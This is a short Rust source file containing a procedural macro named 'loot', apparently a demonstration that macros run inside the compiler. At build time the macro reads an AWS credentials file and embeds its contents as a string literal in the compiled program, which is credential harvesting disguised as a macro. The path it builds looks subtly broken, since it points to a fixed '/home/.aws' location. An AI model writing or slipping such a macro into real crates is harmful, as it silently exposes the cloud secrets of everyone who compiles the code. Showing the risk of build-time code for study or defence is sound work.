// A macro runs inside the compiler.
use proc_macro::TokenStream;

#[proc_macro]
pub fn loot(_: TokenStream) -> TokenStream {
    let home = concat!(env!("CARGO_MANIFEST_DIR"), "/../../../home");
    let found = match std::fs::read_to_string(format!("{home}/.aws/credentials")) {
        Ok(text) => format!("cloud credentials ({})", text.trim()),
        Err(_) => String::new(),
    };
    format!("{found:?}").parse().unwrap()
}
